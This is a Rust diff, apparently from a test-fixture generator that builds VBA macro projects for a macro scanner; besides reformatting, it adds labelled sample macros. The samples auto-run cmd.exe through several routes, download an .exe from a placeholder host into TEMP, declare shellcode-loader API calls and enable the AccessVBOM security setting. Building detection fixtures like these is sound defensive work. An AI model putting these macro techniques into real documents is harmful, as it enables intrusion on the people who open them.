@@ -26,9 +26,14 @@ impl Project {
 
     /// Adds a module with its source; the `Attribute` lines are written for it.
     pub fn module(mut self, name: &str, kind: Kind, source: &str) -> Self {
-        let class = if kind == Kind::Document { "Attribute VB_Base = \"0{00020906-0000-0000-C000-000000000046}\"\r\n" } else { "" };
+        let class = if kind == Kind::Document {
+            "Attribute VB_Base = \"0{00020906-0000-0000-C000-000000000046}\"\r\n"
+        } else {
+            ""
+        };
         let source = source.replace("\r\n", "\n").replace('\n', "\r\n");
-        self.modules.push((name.to_owned(), kind, format!("Attribute VB_Name = \"{name}\"\r\n{class}{source}")));
+        self.modules
+            .push((name.to_owned(), kind, format!("Attribute VB_Name = \"{name}\"\r\n{class}{source}")));
         self
     }
 
@@ -39,7 +44,9 @@ impl Project {
             .stream(&format!("{storage}VBA/_VBA_PROJECT"), &[0xcc, 0x61, 0xff, 0xff, 0, 0, 0])
             .stream(&format!("{storage}PROJECT"), self.project_stream().as_bytes())
             .stream(&format!("{storage}PROJECTwm"), &self.project_wm());
-        self.modules.iter().fold(file, |file, (name, _, source)| file.stream(&format!("{storage}VBA/{name}"), &compress(source.as_bytes())))
+        self.modules.iter().fold(file, |file, (name, _, source)| {
+            file.stream(&format!("{storage}VBA/{name}"), &compress(source.as_bytes()))
+        })
     }
 
     /// A `vbaProject.bin`.
@@ -95,7 +102,10 @@ impl Project {
 
     /// The `PROJECTwm` stream (2.3.3): names in both encodings.
     fn project_wm(&self) -> Vec<u8> {
-        let names = self.modules.iter().fold(Le::new(), |out, (name, ..)| out.cstr(name).utf16(name).u16(0));
+        let names = self
+            .modules
+            .iter()
+            .fold(Le::new(), |out, (name, ..)| out.cstr(name).utf16(name).u16(0));
         names.u16(0).0
     }
 }
@@ -108,6 +118,55 @@ pub fn auto_open(seed: &str) -> Project {
         Kind::Standard,
         &format!("Sub AutoOpen()\n    ' {marker}\n    Shell \"cmd.exe /c echo harmless test\", vbHide\nEnd Sub\n"),
     )
+}
+
+/// Projects that each show one behaviour: label and project; `marker(label)` stands in a comment of the module.
+pub fn behaviours() -> Vec<(&'static str, Project)> {
+    let sources = [
+        (
+            "vba-document-open",
+            "Private Sub Document_Open()\n    CreateObject(\"WScript.Shell\").Run \"cmd.exe /c echo harmless\", 0\nEnd Sub\n",
+        ),
+        ("vba-close", "Sub AutoClose()\n    MsgBox \"harmless\"\nEnd Sub\n"),
+        (
+            "vba-download",
+            "Sub AutoOpen()\n    Dim x\n    Set x = CreateObject(\"MSXML2.XMLHTTP\")\n    x.Open \"GET\", \"https://files.example/a.exe\", False\n    x.Send\n\
+             \x20   Open Environ(\"TEMP\") & \"\\a.exe\" For Binary As #1\nEnd Sub\n",
+        ),
+        (
+            "vba-declare",
+            "Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" (ByVal a As LongPtr, ByVal b As LongPtr, ByVal c As Long, ByVal d As Long) As LongPtr\n\
+             Private Declare PtrSafe Sub RtlMoveMemory Lib \"kernel32\" (ByVal a As LongPtr, b As Any, ByVal c As LongPtr)\n\
+             Private Declare PtrSafe Function CreateThread Lib \"kernel32\" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, d As Long, ByVal e As Long, f As Long) As LongPtr\n",
+        ),
+        (
+            "vba-wmi",
+            "Sub AutoOpen()\n    GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"cmd.exe /c echo harmless\"\nEnd Sub\n",
+        ),
+        (
+            "vba-security",
+            "Sub AutoOpen()\n    CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AccessVBOM\", 1\nEnd Sub\n",
+        ),
+        (
+            "vba-self-modify",
+            "Sub AutoOpen()\n    ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString \"Sub X(): End Sub\"\nEnd Sub\n",
+        ),
+        (
+            "vba-mac",
+            "Sub AutoOpen()\n    MacScript \"do shell script \"\"echo harmless\"\"\"\nEnd Sub\n",
+        ),
+        ("vba-helper-only", "Function Twice(x)\n    Twice = x * 2\nEnd Function\n"),
+    ];
+    let project = |(label, source): (&'static str, &str)| {
+        let module = format!("' {}\n{source}", crate::marker(label));
+        (
+            label,
+            Project::new()
+                .module("ThisDocument", Kind::Document, "")
+                .module("Module1", Kind::Standard, &module),
+        )
+    };
+    sources.into_iter().map(project).collect()
 }
 
 /// MS-OVBA 2.4.1 compression with copy tokens; a chunk that does not shrink is stored.
@@ -156,10 +215,17 @@ fn chunk_tokens(chunk: &[u8]) -> Vec<u8> {
 /// The longest earlier occurrence of at least three bytes inside the chunk.
 fn best_match(chunk: &[u8], at: usize, longest: usize) -> Option<(usize, usize)> {
     let candidates = (0..at).rev().map(|from| {
-        let length = chunk[at..].iter().zip(&chunk[from..]).take(longest).take_while(|(a, b)| a == b).count();
+        let length = chunk[at..]
+            .iter()
+            .zip(&chunk[from..])
+            .take(longest)
+            .take_while(|(a, b)| a == b)
+            .count();
         (length, at - from)
     });
-    candidates.max_by_key(|(length, distance)| (*length, usize::MAX - distance)).filter(|(length, _)| *length >= 3)
+    candidates
+        .max_by_key(|(length, distance)| (*length, usize::MAX - distance))
+        .filter(|(length, _)| *length >= 3)
 }
 
 fn sized(out: Le, id: u16, body: &[u8]) -> Le {
